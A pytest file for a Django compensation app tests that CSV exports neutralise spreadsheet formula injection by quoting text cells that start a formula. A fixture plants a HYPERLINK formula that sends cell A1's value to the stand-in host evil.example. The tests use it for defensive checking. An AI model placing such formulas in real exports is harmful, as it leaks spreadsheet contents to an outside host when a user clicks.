"""CSV formula injection (issue 24, item 9): a text cell a spreadsheet would run as a formula is written
with a leading quote in every CSV the app writes; numbers, negative ones included, stay numbers."""

import csv
import io

import pytest
from django.urls import reverse

from careerpath.exports import csv_cell, write_csv
from careerpath.models import ShareLink
from compensation import catalog
from compensation.models import Role

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your raise")'


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.fixture
def hostile_role_name():
    """A staff member (or a compromised account) names the Mid level as a formula."""
    Role.objects.filter(slug="mid").update(name=FORMULA)
    catalog.forget()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_starts_a_formula_gets_a_leading_quote(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-5, -5.5, 0, 120000, None, "Senior ML engineer", "a=b", "ML-Ops", ""])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_a_negative_number_is_still_a_number_in_the_file():
    out = io.StringIO()
    write_csv(out, [["change", "note"], [-1500, "-1500 is a drop"]])
    assert out.getvalue() == "change,note\r\n-1500,'-1500 is a drop\r\n"


def test_a_role_named_as_a_formula_reaches_a_shared_csv_neutralised(client, plan, hostile_role_name):
    link = ShareLink.objects.create(plan=plan)

    rows = rows_of(client.get(reverse("shared_projection_csv", args=[link.token])))

    assert [f"'{FORMULA}" in row for row in rows].count(True) >= 3  # the level input and the steps
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_owners_csvs_are_neutralised_too(user_client, plan, hostile_role_name):
    for name in ("projection_csv", "earnings_csv"):
        rows = rows_of(user_client.get(reverse(name, args=[plan.pk])))
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row), name
    projection = rows_of(user_client.get(reverse("projection_csv", args=[plan.pk])))
    assert ["Level", f"'{FORMULA}"] in projection and f"'{FORMULA}" in [row[1] for row in projection if len(row) > 1]
    earnings = rows_of(
        user_client.get(reverse("shared_earnings_csv", args=[ShareLink.objects.create(plan=plan).token]))
    )
    table = earnings[earnings.index([]) + 1 :]
    assert all(row[2].isdigit() for row in table[1:])  # base pay stays a number
    assert table[1][1] == f"'{FORMULA}"  # the role held, neutralised
